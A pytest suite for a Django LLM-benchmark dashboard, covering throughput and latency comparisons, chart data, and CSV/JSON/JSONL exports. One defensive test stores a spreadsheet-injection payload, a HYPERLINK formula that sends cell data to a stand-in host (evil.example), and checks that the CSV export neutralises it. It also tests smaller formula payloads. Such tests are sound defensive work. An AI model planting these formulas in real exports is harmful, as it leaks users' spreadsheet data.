import csv
import io
import json

import numpy as np
import pytest
from django.urls import reverse

from benchmarks.models import LLM, Engine, Host, Sweep, Workload
from runs.models import Point, RequestRecord, Run
from runs.results import compare as compare_lib
from runs.results.exports import CSV_COLUMNS, EXPORT_COLUMNS, spreadsheet_safe
from sweepcore.metrics import LATENCY_FIELDS, higher_is_better
from tests.web.records import add_records


def make_sweep(name, configs, points_per_run=2, decode=100.0, requests_per_point=2, workload=None, spread=None,
               seed=0, validity="valid"):
    """A sweep with one run per (method, params, tp) config and points at 1000, 2000.. tokens;
    with ``spread``, each point's requests are drawn around ``decode`` (tests/web/records.py)."""
    workload = workload or Workload.objects.order_by("name").first()
    sweep = Sweep.objects.create(
        name=name, spec={}, host=Host.objects.first(), engine=Engine.objects.first(), llm=LLM.objects.first()
    )
    for r, (method, params, tp) in enumerate(configs):
        run = Run.objects.create(sweep=sweep, position=r, method=method, params=params, tp=tp, engine_version="sim 1.0")
        for i in range(points_per_run):
            point = Point.objects.create(
                run=run, position=i, workload=workload, prompt_tokens=1000 * (i + 1), max_new_tokens=256,
                concurrency=1, status="ok", decode_tok_s=decode + i, mean_ttft_ms=50.0 + i,
                validity=validity, completed=requests_per_point,
                **{f: 1.0 for f in LATENCY_FIELDS if f != "mean_ttft_ms"},
            )
            if spread is not None:
                add_records(point, decode + i, n=requests_per_point, seed=seed * 1000 + r * 100 + i, spread=spread)
                continue
            RequestRecord.objects.bulk_create(
                RequestRecord(point=point, index=k, send_time=1.7e9 + k, chunk_offsets=[0.1, 0.2],
                              chunk_tokens=[1, 4], prompt_tokens=1000, output_tokens=5, finish_reason="length",
                              http_status=200)
                for k in range(requests_per_point)
            )
    return sweep


CONFIGS = [("autoregressive", {}, 1), ("ddtree", {"budget": 8, "topk_cap": 8}, 1)]


# --- runs.results.compare, pure -------------------------------------------------------------------

def draws(centre, n=30, seed=1, spread=0.03):
    """Per-request values of a known distribution: ``centre`` times a seeded log-normal factor."""
    return list(centre * np.random.default_rng(seed).lognormal(0.0, spread, n))


def p(status="ok", value=None, validity="valid", samples=None, **key):
    base = {"method": "ddtree", "params_key": '{"budget":8}', "tp": 1, "workload": "long-context",
            "prompt_tokens": 1000, "concurrency": 1, "status": status, "reason": "", "excluded": False,
            "validity": validity, "validity_reasons": [], "completed": 30, "intervals": {}}
    if samples is None and value is not None:
        samples = draws(value, seed=int(value * 10) + 7 * key.get("tp", 1))
    return {**base, **key, "decode_tok_s": value, "mean_ttft_ms": value, "samples": samples or []}


def test_pct_difference_is_against_the_baseline():
    assert compare_lib.pct_difference(100, 110) == pytest.approx(10.0)
    assert compare_lib.pct_difference(0, 5) is None
    assert compare_lib.pct_difference(None, 5) is None
    assert higher_is_better("output_throughput") and not higher_is_better("mean_itl_ms")


def test_two_identical_configurations_are_the_same_within_noise():
    same = compare_lib.judge(p(value=100.0, samples=draws(100.0, seed=1)), p(value=100.0, samples=draws(100.0, seed=2)),
                             "decode_tok_s")
    assert same["verdict"] == "same" and same["p_value"] >= 0.05 and same["basis"] == "requests"
    assert same["reason"].startswith("within noise: ±") and same["noise_pct"] > 0


def test_a_real_30_percent_difference_is_better_or_worse_by_the_metric_direction():
    base, faster = p(value=100.0, samples=draws(100.0, seed=1)), p(value=130.0, samples=draws(130.0, seed=2))
    up = compare_lib.judge(base, faster, "decode_tok_s")
    assert up["verdict"] == "better" and up["p_value"] < 0.05 and up["reason"].startswith("+")
    assert compare_lib.judge(faster, base, "decode_tok_s")["verdict"] == "worse"
    # A latency 30 % higher is worse, 30 % lower better.
    assert compare_lib.judge(base, faster, "mean_ttft_ms")["verdict"] == "worse"
    assert compare_lib.judge(faster, base, "mean_ttft_ms")["verdict"] == "better"


def test_too_few_requests_or_a_side_that_is_not_valid_is_insufficient():
    base = p(value=100.0, samples=draws(100.0, seed=1))
    few = compare_lib.judge(base, p(value=130.0, samples=draws(130.0, n=4, seed=2)), "decode_tok_s", min_requests=5)
    assert few["verdict"] == "insufficient" and few["p_value"] is None
    assert few["reason"] == "30 vs 4 requests: at least 5 on each side are needed"
    suspect = p(value=130.0, validity="suspect", samples=draws(130.0, seed=2),
                validity_reasons=[{"code": "host_busy", "message": "pid 9 took a core"}])
    judged = compare_lib.judge(base, suspect, "decode_tok_s")
    assert judged["verdict"] == "insufficient" and judged["reason"] == "this point is suspect (host_busy)"
    unjudged = compare_lib.judge(p(value=100.0, validity=""), base, "decode_tok_s")
    assert unjudged["verdict"] == "insufficient" and "the baseline has no verdict" in unjudged["reason"]


def test_a_metric_with_one_value_per_measurement_is_tested_on_repeats_or_insufficient():
    one = compare_lib.judge({**p(value=100.0), "samples": None, "repeats": [100.0, 101.0, 99.0]},
                            {**p(value=130.0), "samples": None, "repeats": [130.0, 131.0, 129.0, 128.0]},
                            "output_throughput")
    assert one["verdict"] == "insufficient"
    assert one["reason"] == "one value per measurement: needs >= 4 repeats on each side (3 vs 4)"
    many = compare_lib.judge({**p(value=100.0), "samples": None, "repeats": draws(100.0, n=6, seed=3)},
                             {**p(value=130.0), "samples": None, "repeats": draws(130.0, n=6, seed=4)},
                             "output_throughput")
    assert many["verdict"] == "better" and many["basis"] == "repeats"


def test_compare_matches_on_the_key_and_keeps_non_ok_reasons():
    groups = [
        {"label": "a", "points": [p(value=100.0), p(value=50.0, prompt_tokens=2000), p(value=7.0, tp=4)]},
        {"label": "b", "points": [p(value=120.0), p("crashed", reason="CUDA OOM", prompt_tokens=2000)]},
    ]
    rows = compare_lib.compare(groups, "decode_tok_s")
    assert len(rows) == 3
    first, second, third = rows
    assert first["cells"][1]["pct"] == pytest.approx(20.0) and first["cells"][1]["verdict"] == "better"
    assert first["cells"][1]["p_value"] < 0.05 and first["cells"][1]["n"] == 30
    assert first["cells"][0]["pct"] is None and first["cells"][0]["verdict"] is None
    assert second["cells"][1]["ok"] is False and second["cells"][1]["reason"] == "CUDA OOM"
    assert second["cells"][1]["value"] is None and second["cells"][1]["pct"] is None
    assert second["cells"][1]["verdict"] is None
    assert third["cells"][1]["present"] is False and third["matched"] == 1
    lower = compare_lib.compare(groups, "mean_ttft_ms")
    assert lower[0]["cells"][1]["verdict"] == "worse"
    chart = compare_lib.chart_data(groups, rows, "decode_tok_s")
    assert chart["datasets"][1]["data"] == [120.0, None, None]
    assert chart["datasets"][1]["status"][1] == "crashed"
    with pytest.raises(KeyError):
        compare_lib.compare(groups, "status")


def test_it_colours_compare_bars_by_verdict_and_draws_cells_without_a_value_as_markers():
    groups = [
        {"label": "base", "points": [p(value=100.0), p(value=100.0, prompt_tokens=2000), p(value=100.0, tp=2),
                                     p(value=100.0, tp=4), p(value=100.0, tp=8), p(value=100.0, tp=16),
                                     p(value=100.0, tp=32), p(value=100.0, tp=64)]},
        {"label": "new", "points": [
            p(value=120.0), p(value=80.0, prompt_tokens=2000), p("crashed", reason="CUDA OOM", tp=2),
            p(value=None, tp=4),  # ok, but without this metric
            p(value=100.0, tp=8, excluded=True, exclude_reason="noisy neighbour"),
            p(value=101.0, tp=16),
            p(value=150.0, tp=32, validity="suspect",
              validity_reasons=[{"code": "host_busy", "message": "pid 9 python took 1.0 of a core"}]),
            p(value=900.0, tp=64, validity="invalid",
              validity_reasons=[{"code": "below_resolution", "message": "chunks closer than 0.1 ms"}]),
        ]},
    ]
    rows = compare_lib.compare(groups, "decode_tok_s")
    chart = compare_lib.chart_data(groups, rows, "decode_tok_s")
    assert chart["title"] == "decode speed (tok/s) of matched points, against the baseline base"
    assert chart["x"]["label"] == "decode speed (tok/s), higher is better" and chart["unit"] == "tok/s"
    assert chart["y"]["label"] == "matched configuration and point"
    base, new = [d for d in chart["datasets"] if d["kind"] == "value"]
    colours = compare_lib.VERDICT_COLOURS
    assert new["data"] == [120.0, 80.0, None, None, None, 101.0, 150.0, None]  # an invalid point is no bar
    assert new["verdict"] == ["better", "worse", None, None, None, "same", "insufficient", "insufficient"]
    assert new["barColors"][:2] == [colours["better"], colours["worse"]]
    assert new["barColors"][5:7] == [colours["same"], colours["insufficient"]]
    assert new["validity"][6] == "suspect" and new["reasons"][6] == "host_busy: pid 9 python took 1.0 of a core"
    assert new["verdictReason"][5].startswith("within noise: ±") and new["pValue"][5] >= 0.05
    assert new["n"][0] == 30 and len(new["xMin"]) == len(new["xMax"]) == 8
    assert set(base["barColors"]) == {base["backgroundColor"]}  # the baseline is not judged
    markers = {d["status"]: d for d in chart["datasets"] if d["kind"] == "marker"}
    assert set(markers) == {"crashed", "no_value", "excluded", "invalid"}
    assert markers["crashed"]["data"] == [
        {"x": 0, "y": rows[2]["label"], "group": "new", "status": "crashed", "reason": "CUDA OOM"}]
    assert markers["excluded"]["data"][0]["reason"] == "noisy neighbour"
    assert markers["no_value"]["data"][0]["y"] == rows[3]["label"]
    assert markers["invalid"]["data"] == [{"x": 0, "y": rows[7]["label"], "group": "new", "status": "invalid",
                                           "reason": "below_resolution: chunks closer than 0.1 ms"}]
    assert all(d["type"] == "scatter" and d["pointStyle"] for d in markers.values())
    assert {entry["status"] for entry in chart["legend"]} == set(markers)
    assert {v["verdict"] for v in chart["verdicts"]} == {"better", "worse", "same", "insufficient"}
    # Lower is better: a smaller TTFT is the green bar.
    lower = compare_lib.chart_data(groups, compare_lib.compare(groups, "mean_ttft_ms"), "mean_ttft_ms", mode="run")
    assert lower["x"]["label"] == "mean TTFT (ms), lower is better" and lower["y"]["label"] == "matched point"
    assert lower["datasets"][1]["barColors"][:2] == [colours["worse"], colours["better"]]


def test_bars_carry_the_interval_of_their_value():
    groups = [{"label": "a", "points": [p(value=100.0, intervals={"decode_tok_s": [97.0, 103.5]})]},
              {"label": "b", "points": [p(value=100.0)]}]
    chart = compare_lib.chart_data(groups, compare_lib.compare(groups, "decode_tok_s"), "decode_tok_s")
    a, b = [d for d in chart["datasets"] if d["kind"] == "value"]
    assert (a["xMin"], a["xMax"]) == ([97.0], [103.5]) and (b["xMin"], b["xMax"]) == ([None], [None])


def test_it_never_lets_an_excluded_attempt_hide_one_that_is_not():
    groups = [
        {"label": "a", "points": [p(value=100.0)]},
        {"label": "b", "points": [p(value=90.0, attempt=1), p(value=150.0, attempt=2, excluded=True)]},
    ]
    cell = compare_lib.compare(groups, "decode_tok_s")[0]["cells"][1]
    assert cell["value"] == 90.0 and cell["pct"] == pytest.approx(-10.0)


def test_run_mode_ignores_the_configuration_and_latest_attempt_wins():
    groups = [
        {"label": "a", "points": [p(value=100.0, method="autoregressive", params_key="{}")]},
        {"label": "b", "points": [p(value=90.0, attempt=1), p(value=150.0, attempt=2)]},
    ]
    assert len(compare_lib.compare(groups, "decode_tok_s", mode="sweep")) == 2
    rows = compare_lib.compare(groups, "decode_tok_s", mode="run")
    assert len(rows) == 1 and rows[0]["cells"][1]["pct"] == pytest.approx(50.0)


# --- Exports --------------------------------------------------------------------------------

def test_points_csv_and_json_have_the_same_columns_and_contents(catalog, viewer, client):
    sweep = make_sweep("s1", CONFIGS)
    Point.objects.filter(run__sweep=sweep, position=1, run__position=1).update(
        status="crashed", reason="server died", decode_tok_s=None
    )
    client.force_login(viewer)
    response = client.get(reverse("sweep-points-csv", args=[sweep.pk]))
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"] == f"attachment; filename=sweep-{sweep.pk}-points.csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, body = rows[0], rows[1:]
    assert tuple(header) == CSV_COLUMNS and len(body) == 4
    for column in ("sweep_id", "run_id", "model", "engine", "engine_kind", "host", "gpu_model", "method", "params",
                   "tp", "attempt", "engine_version", "workload",
                   "prompt_tokens", "actual_prompt_tokens", "concurrency", "max_new_tokens", "status", "reason",
                   "excluded", "decode_tok_s", "accept_length", *LATENCY_FIELDS):
        assert column in header
    first = dict(zip(header, body[2]))
    assert json.loads(first["params"]) == {"budget": 8, "topk_cap": 8}
    assert first["method"] == "ddtree" and first["decode_tok_s"] == "100.0" and first["engine_version"] == "sim 1.0"
    crashed = dict(zip(header, body[3]))
    assert (crashed["status"], crashed["reason"], crashed["decode_tok_s"]) == ("crashed", "server died", "")

    data = client.get(reverse("sweep-points-json", args=[sweep.pk])).json()
    assert tuple(data["columns"]) == EXPORT_COLUMNS
    assert len(data["points"]) == 4 and all(tuple(p) == EXPORT_COLUMNS for p in data["points"])
    assert data["points"][2]["params"] == {"budget": 8, "topk_cap": 8}
    assert data["points"][3]["status"] == "crashed" and data["points"][3]["decode_tok_s"] is None
    assert [str(p["point_id"]) for p in data["points"]] == [dict(zip(header, r))["point_id"] for r in body]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_would_start_a_formula_is_exported_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["a=b", "sim 1.0", "", 100.0, -3.5, 0, True, None])
def test_numbers_and_other_text_are_exported_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_points_csv_neutralises_formulas_from_an_import_and_keeps_the_numbers(catalog, viewer, client):
    sweep = make_sweep("s1", CONFIGS)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    Run.objects.filter(sweep=sweep).update(engine_version=hostile)
    Point.objects.filter(run__sweep=sweep, position=1, run__position=1).update(
        status="crashed", reason="@SUM(1+1)", decode_tok_s=None)
    client.force_login(viewer)
    response = client.get(reverse("sweep-points-csv", args=[sweep.pk]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {r["engine_version"] for r in rows} == {"'" + hostile}
    assert [r["reason"] for r in rows if r["status"] == "crashed"] == ["'@SUM(1+1)"]
    assert [r["decode_tok_s"] for r in rows if r["status"] == "ok"][0] == "100.0"
    # points.json is not a spreadsheet's: its text stays exactly as stored.
    data = client.get(reverse("sweep-points-json", args=[sweep.pk])).json()
    assert {p["engine_version"] for p in data["points"]} == {hostile}


def test_exports_say_the_model_engine_host_and_gpu_first(catalog, viewer, client):
    assert CSV_COLUMNS[:8] == EXPORT_COLUMNS[:8] == (
        "sweep_id", "run_id", "point_id", "model", "engine", "engine_kind", "host", "gpu_model")
    sweep = make_sweep("s1", CONFIGS)
    sweep_host = sweep.host
    other = Host.objects.create(name="b200-box", gpu_model="NVIDIA B200", gpu_count=8, compute_capability="10.0")
    # The second run was claimed on another host of the sweep; the first never recorded one
    # (an old or imported run): it is its sweep's.
    Run.objects.filter(sweep=sweep, position=1).update(host=other)
    client.force_login(viewer)
    response = client.get(reverse("sweep-points-csv", args=[sweep.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    got = [{k: row[k] for k in ("model", "engine", "engine_kind", "host", "gpu_model", "method")}
           for row in (dict(zip(rows[0], r)) for r in rows[1:])]
    ours = {"model": sweep.llm.name, "engine": sweep.engine.name, "engine_kind": sweep.engine.kind}
    assert got == [
        {**ours, "host": sweep_host.name, "gpu_model": sweep_host.gpu_model, "method": "autoregressive"},
    ] * 2 + [{**ours, "host": "b200-box", "gpu_model": "NVIDIA B200", "method": "ddtree"}] * 2
    points = client.get(reverse("sweep-points-json", args=[sweep.pk])).json()["points"]
    assert [(p["host"], p["gpu_model"]) for p in points] == [(row["host"], row["gpu_model"]) for row in got]


def test_exports_carry_the_verdict_the_sample_size_and_the_intervals(catalog, viewer, client):
    sweep = make_sweep("s1", CONFIGS[:1], points_per_run=1)
    Point.objects.filter(run__sweep=sweep).update(
        validity="suspect", completed=12, simulated_time_scale=0.05, stop_reason="until_stable: ±4.1 % after 12",
        validity_reasons=[{"code": "few_requests", "message": "3 requests (at least 5)"},
                          {"code": "host_busy", "message": "pid 7 python took 0.9 of a core"}],
        intervals={"decode_tok_s": [95.5, 104.25], "median_ttft_ms": [40.0, 60.0]},
    )
    client.force_login(viewer)
    response = client.get(reverse("sweep-points-csv", args=[sweep.pk]))
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = dict(zip(header, row))
    assert (cells["validity"], cells["n"], cells["simulated_time_scale"]) == ("suspect", "12", "0.05")
    assert cells["validity_reasons"] == "few_requests: 3 requests (at least 5); host_busy: pid 7 python took 0.9 of a core"
    assert (cells["decode_tok_s_ci_lo"], cells["decode_tok_s_ci_hi"]) == ("95.5", "104.25")
    assert (cells["median_tpot_ms_ci_lo"], cells["median_tpot_ms_ci_hi"]) == ("", "")
    assert cells["stop_reason"] == "until_stable: ±4.1 % after 12"

    (point,) = client.get(reverse("sweep-points-json", args=[sweep.pk])).json()["points"]
    assert point["validity"] == "suspect" and point["n"] == 12 and point["simulated_time_scale"] == 0.05
    assert point["validity_reasons"][1] == {"code": "host_busy", "message": "pid 7 python took 0.9 of a core"}
    assert point["decode_tok_s_ci"] == [95.5, 104.25] and point["median_ttft_ms_ci"] == [40.0, 60.0]
    assert point["median_itl_ms_ci"] is None and point["median_e2el_ms_ci"] is None


def test_requests_jsonl_has_one_line_per_record(catalog, viewer, client):
    sweep = make_sweep("s1", CONFIGS, requests_per_point=3)
    make_sweep("other", CONFIGS)  # not exported
    client.force_login(viewer)
    response = client.get(reverse("sweep-requests-jsonl", args=[sweep.pk]))
    assert response.status_code == 200 and response.streaming
    assert f"sweep-{sweep.pk}-requests.jsonl" in response["Content-Disposition"]
    lines = b"".join(response.streaming_content).decode().splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 2 * 2 * 3
    first = records[0]
    assert {"point_id", "run_id", "index", "send_time", "chunk_offsets", "chunk_tokens", "prompt_tokens",
            "output_tokens", "token_count_source", "finish_reason", "http_status", "error_kind", "error",
            "spec_verify_ct", "send_lag", "in_ramp"} == set(first)
    assert first["chunk_offsets"] == [0.1, 0.2] and first["http_status"] == 200
    point_ids = set(Point.objects.filter(run__sweep=sweep).values_list("id", flat=True))
    assert {r["point_id"] for r in records} == point_ids


def test_exports_and_compare_require_login(catalog, client):
    sweep = make_sweep("s1", CONFIGS)
    for url in (reverse("sweep-points-csv", args=[sweep.pk]), reverse("sweep-points-json", args=[sweep.pk]),
                reverse("sweep-requests-jsonl", args=[sweep.pk]), reverse("compare")):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("login")), url


@pytest.mark.parametrize("runs", [2, 10])
def test_exports_use_a_constant_number_of_queries(runs, catalog, viewer, client, django_assert_max_num_queries):
    configs = [("ddtree", {"budget": b}, 1) for b in range(1, runs + 1)]
    sweep = make_sweep("s", configs, points_per_run=3)
    client.force_login(viewer)
    client.get(reverse("sweep-points-json", args=[sweep.pk]))  # warm the session
    for name in ("sweep-points-csv", "sweep-requests-jsonl"):
        with django_assert_max_num_queries(4):
            response = client.get(reverse(name, args=[sweep.pk]))
            b"".join(response.streaming_content)
    with django_assert_max_num_queries(4):
        assert len(client.get(reverse("sweep-points-json", args=[sweep.pk])).json()["points"]) == 3 * runs


def test_sweep_detail_links_to_the_exports(catalog, viewer, client):
    sweep = make_sweep("s1", CONFIGS)
    client.force_login(viewer)
    html = client.get(reverse("sweep-detail", args=[sweep.pk])).content.decode()
    assert 'class="exports"' in html and reverse("sweep-points-csv", args=[sweep.pk]) in html
    assert html.index('class="exports"') < html.index("<h2>Runs</h2>")


def test_a_selection_of_runs_across_sweeps_exports_just_their_points(catalog, viewer, client):
    one, two = make_sweep("s1", CONFIGS, requests_per_point=2), make_sweep("s2", CONFIGS, requests_per_point=3)
    make_sweep("s3", CONFIGS)  # not selected
    ar_one = one.runs.get(method="autoregressive")
    dd_two = two.runs.get(method="ddtree")
    client.force_login(viewer)
    query = f"?run={ar_one.pk}&run={dd_two.pk}"
    data = client.get(reverse("selection-export", args=["points.json"]) + query).json()
    assert data["runs"] == [ar_one.pk, dd_two.pk] and tuple(data["columns"]) == EXPORT_COLUMNS
    assert {p["run_id"] for p in data["points"]} == {ar_one.pk, dd_two.pk} and len(data["points"]) == 4
    response = client.get(reverse("selection-export", args=["points.csv"]) + query)
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1 + 4 and f"run{ar_one.pk}-run{dd_two.pk}-points.csv" in response["Content-Disposition"]
    response = client.get(reverse("selection-export", args=["requests.jsonl"]) + f"?sweep={two.pk}")
    records = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert len(records) == 2 * 2 * 3 and {r["run_id"] for r in records} == set(two.runs.values_list("pk", flat=True))


def test_a_bad_export_selection_is_a_400_that_names_the_problem(catalog, viewer, client):
    sweep = make_sweep("s1", CONFIGS)
    client.force_login(viewer)
    url = reverse("selection-export", args=["points.json"])
    assert client.get(url).json() == {"error": "nothing selected: give ?sweep=ID or ?run=ID, once per sweep or run"}
    bad = client.get(url + "?run=x1")
    assert bad.status_code == 400 and bad.json()["error"] == "bad selection: “x1” is not an id"
    missing = client.get(url + f"?sweep={sweep.pk}&run=999999")
    assert missing.status_code == 400 and missing.json()["error"] == "no such run 999999"
    assert client.get(reverse("selection-export", args=["points.xml"]) + f"?sweep={sweep.pk}").status_code == 404


# --- The compare page -------------------------------------------------------------------------

def test_compare_two_sweeps(catalog, viewer, client):
    base = make_sweep("base", CONFIGS, decode=100.0, requests_per_point=20, spread=0.03, seed=1)
    other = make_sweep("other", CONFIGS, decode=125.0, requests_per_point=20, spread=0.03, seed=2)
    Point.objects.filter(run__sweep=other, run__position=1, position=1).update(
        status="timeout", reason="ran out of time after 600 s", decode_tok_s=None
    )
    client.force_login(viewer)
    response = client.get(reverse("compare"), {"sweep": [base.pk, other.pk]})
    assert response.status_code == 200
    rows = response.context["rows"]
    assert len(rows) == 4 and all(row["matched"] == 2 for row in rows)
    assert rows[0]["cells"][1]["pct"] == pytest.approx(25.0) and rows[0]["cells"][1]["verdict"] == "better"
    html = response.content.decode()
    assert "ran out of time after 600 s" in html and 'class="num better"' in html
    assert 'id="compare-chart-data"' in html and "js/compare.js" in html
    chart = response.context["chart"]
    assert chart["datasets"][1]["data"][3] is None and chart["datasets"][1]["status"][3] == "timeout"
    assert chart["x"]["label"] == "decode speed (tok/s), higher is better"
    assert [m["reason"] for d in chart["datasets"] if d["kind"] == "marker" for m in d["data"]] == ["ran out of time after 600 s"]

    latency = client.get(reverse("compare"), {"sweep": [base.pk, other.pk], "metric": "mean_ttft_ms"})
    assert latency.status_code == 200
    assert latency.context["rows"][0]["cells"][1]["verdict"] == "same"
    # Reversed: the other sweep is the baseline, the first one is slower.
    reverse_rows = client.get(reverse("compare"), {"sweep": [other.pk, base.pk]}).context["rows"]
    assert reverse_rows[0]["cells"][1]["verdict"] == "worse"
    assert reverse_rows[0]["cells"][1]["pct"] == pytest.approx(-20.0)


def test_two_sweeps_of_the_same_configuration_are_the_same_within_noise(catalog, viewer, client):
    one = make_sweep("one", CONFIGS, decode=100.0, requests_per_point=20, spread=0.05, seed=1)
    two = make_sweep("two", CONFIGS, decode=100.0, requests_per_point=20, spread=0.05, seed=2)
    Point.objects.filter(run__sweep=two, run__position=1, position=1).update(
        validity="suspect", validity_reasons=[{"code": "host_busy", "message": "pid 7 python took 0.9 of a core"}])
    client.force_login(viewer)
    response = client.get(reverse("compare"), {"sweep": [one.pk, two.pk]})
    cells = [row["cells"][1] for row in response.context["rows"]]
    assert [c["verdict"] for c in cells] == ["same", "same", "same", "insufficient"]
    assert all(c["verdict_reason"].startswith("within noise: ±") for c in cells[:3])
    assert cells[3]["verdict_reason"] == "this point is suspect (host_busy)"
    assert [c["n"] for c in cells] == [20] * 4
    html = response.content.decode()
    assert 'class="num same"' in html and 'class="num insufficient"' in html


def test_a_simulated_point_is_compared_in_model_time(catalog, viewer, client):
    # The same model speed, measured at two time scales: its requests' wall speeds differ 10x.
    real = make_sweep("scale 1", CONFIGS[:1], points_per_run=1, decode=50.0, requests_per_point=20, spread=0.03, seed=1)
    fast = make_sweep("scale 0.1", CONFIGS[:1], points_per_run=1, decode=500.0, requests_per_point=20, spread=0.03,
                      seed=2)
    Point.objects.filter(run__sweep=real).update(simulated_time_scale=1.0)
    Point.objects.filter(run__sweep=fast).update(simulated_time_scale=0.1, decode_tok_s=50.0)
    client.force_login(viewer)
    (row,) = client.get(reverse("compare"), {"sweep": [real.pk, fast.pk]}).context["rows"]
    assert row["cells"][1]["verdict"] == "same" and row["cells"][1]["simulated_time_scale"] == 0.1


def test_it_marks_the_points_of_an_excluded_run_on_the_compare_page_and_never_compares_them(catalog, viewer, client):
    base = make_sweep("base", CONFIGS, decode=100.0)
    other = make_sweep("other", CONFIGS, decode=125.0)
    Run.objects.filter(sweep=other, position=1).update(excluded=True, exclude_reason="wrong driver on the host")
    client.force_login(viewer)
    response = client.get(reverse("compare"), {"sweep": [base.pk, other.pk]})
    rows = response.context["rows"]
    assert [row["cells"][1]["status"] for row in rows] == ["ok", "ok", "excluded", "excluded"]
    assert all(row["cells"][1]["pct"] is None and row["cells"][1]["verdict"] is None for row in rows[2:])
    assert rows[2]["cells"][1]["reason"] == "wrong driver on the host"
    chart = response.context["chart"]
    assert chart["datasets"][1]["data"] == [125.0, 126.0, None, None]
    excluded = [d for d in chart["datasets"] if d["kind"] == "marker" and d["status"] == "excluded"]
    assert [m["y"] for m in excluded[0]["data"]] == [rows[2]["label"], rows[3]["label"]]
    html = response.content.decode()
    assert "wrong driver on the host" in html and 'data-status="excluded"' in html


@pytest.mark.parametrize("configs, points_per_run", [(1, 1), (6, 9)])
def test_it_builds_the_compare_page_in_the_same_queries_whatever_its_size(catalog, viewer, client, configs,
                                                                           points_per_run, django_assert_num_queries):
    many = [("ddtree", {"budget": 8 + i, "topk_cap": 8}, 1) for i in range(configs)]
    sweeps = [make_sweep(f"s{i}", many, points_per_run=points_per_run, requests_per_point=1) for i in range(3)]
    runs = [Run.objects.filter(sweep=sweep).order_by("position").first().pk for sweep in sweeps]
    client.force_login(viewer)
    client.get(reverse("compare"))  # warm the session
    # Session, user, the sweeps (or runs), their points, their request records (one query for
    # every compared point), the user's and groups' permissions.
    with django_assert_num_queries(7):
        response = client.get(reverse("compare"), {"sweep": [s.pk for s in sweeps]})
    assert len(response.context["rows"]) == configs * points_per_run
    assert len(response.context["chart"]["datasets"]) == 3
    with django_assert_num_queries(7):
        response = client.get(reverse("compare"), {"run": runs})
    assert response.context["mode"] == "run" and len(response.context["rows"]) == points_per_run


def test_compare_runs_matches_on_workload_length_and_concurrency(catalog, viewer, client):
    sweep = make_sweep("s", CONFIGS, decode=100.0)
    ar, dd = Run.objects.filter(sweep=sweep).order_by("position")
    Point.objects.filter(run=dd).update(decode_tok_s=200.0)
    client.force_login(viewer)
    response = client.get(reverse("compare"), {"run": [ar.pk, dd.pk]})
    assert response.status_code == 200 and response.context["mode"] == "run"
    rows = response.context["rows"]
    assert len(rows) == 2
    assert rows[0]["cells"][1]["pct"] == pytest.approx(100.0)
    assert rows[1]["cells"][1]["pct"] == pytest.approx((200.0 - 101.0) / 101.0 * 100)


def test_compare_links_to_the_exports_of_what_it_compares(catalog, viewer, client):
    one, two = make_sweep("s1", CONFIGS), make_sweep("s2", CONFIGS)
    client.force_login(viewer)
    html = client.get(reverse("compare") + f"?sweep={one.pk}&sweep={two.pk}").content.decode()
    assert f'{reverse("selection-export", args=["points.csv"])}?sweep={one.pk}&amp;sweep={two.pk}' in html
    assert reverse("selection-export", args=["requests.jsonl"]) in html


def test_compare_bad_input_is_a_message_not_an_error(catalog, viewer, client):
    a, b = make_sweep("a", CONFIGS), make_sweep("b", CONFIGS)
    client.force_login(viewer)
    response = client.get(reverse("compare"), {"sweep": [a.pk, b.pk], "metric": "status"})
    assert response.status_code == 400
    assert "Unknown metric “status”" in response.content.decode()
    for query in ({"sweep": [a.pk]}, {"sweep": ["x", a.pk]}, {"sweep": [a.pk, b.pk + 100]},
                  {"sweep": [a.pk, b.pk], "run": [1, 2]}):
        response = client.get(reverse("compare"), query)
        assert response.status_code == 400 and b"compare-error" in response.content, query
    assert client.get(reverse("compare")).status_code == 200


def test_sweep_list_has_compare_checkboxes(catalog, viewer, client):
    a = make_sweep("a", CONFIGS)
    client.force_login(viewer)
    html = client.get(reverse("sweep-list")).content.decode()
    assert f'name="sweep" value="{a.pk}" form="compare-form"' in html
    assert "Compare selected" in html and f'action="{reverse("compare")}"' in html


def test_row_labels_name_the_configuration_and_the_point():
    groups = [{"label": "a", "points": [p(value=1.0, params={"budget": 8})]}, {"label": "b", "points": []}]
    assert compare_lib.compare(groups, "decode_tok_s")[0]["label"] == "ddtree budget=8 · TP1 · long-context 1000 tok · x1"
    assert compare_lib.compare(groups, "decode_tok_s", mode="run")[0]["label"] == "long-context 1000 tok · x1"
